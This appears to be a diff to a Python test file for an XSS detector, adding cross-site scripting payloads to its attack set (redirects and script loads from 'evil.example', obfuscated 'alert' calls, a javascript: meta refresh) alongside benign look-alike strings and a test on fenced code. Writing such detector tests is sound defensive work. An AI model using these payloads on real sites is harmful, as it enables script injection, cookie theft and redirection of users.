@@ -71,6 +71,11 @@ ATTACKS = {
     "Vue": "{{_c.constructor`alert(1)`()}}",
     "bare call": "alert(document.cookie)",
     "bare call in a script": "1;alert(1);",
+    "string, a foreign place": "'-window.location='http://evil.example/'-'",
+    "source of a script": "42 src=http://evil.example/x.js",
+    "window under another name": "<b onclick=\"x='al',y=top;x+='ert';y[x](1)\">b</b>",
+    "signs alone, as a form sends them": "[][(![] [])[ []] (![] [])[![] ![]]][([][(![] [])]])()",
+    "refresh without a name": "<meta http-equiv=refresh content='0; javascript:alert(1)'>",
     "file name": "<img src=x onerror=alert(1)>.png",
 }  # fmt: skip
 HONEST = {
@@ -113,6 +118,7 @@ HONEST = {
     "analytics": "<a onclick=\"ga('send','event','buy')\" href='/b'>Buy</a>",
     "beacon": '{"event":"onclick","target":"button#buy(1)"}',
     "sale": 'Die Werbung sagt "50%"; (nur heute)',
+    "advice": "The value of 'aria-label' must tell it ('aria-live', 'aria-busy', role=alert, etc.)",
     "picture": "data:image/png;base64,iVBORw0KGgo=",
     "fonts": '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">',
     "chinese": "<h1>标题</h1><p>中文描述（新款）</p>",
@@ -134,6 +140,12 @@ def test_a_script_in_a_long_ticket_weighs_less_than_alone() -> None:
     ticket = "Good morning,\nmy theme has this at its end and I wonder why it is slow.\n" * 9
     assert score(SINK, ticket + script) < score(SINK, "<script>render(cart)</script>")
     assert score(SINK, ticket + script) < -2
+
+
+def test_code_in_marks_of_code_is_shown_and_not_run() -> None:
+    code = "<script>\n  buy.addEventListener('click', function () { alert('Added!'); });\n</script>"
+    assert score(SINK, 'I can\'t "buy":\n\n```html\n' + code + "\n```\n\nWhy?") < -0.4
+    assert score(SINK, 'I can\'t "buy":\n\n' + code) >= 0
 
 
 def test_a_hostile_script_convicts_inside_a_long_review() -> None:
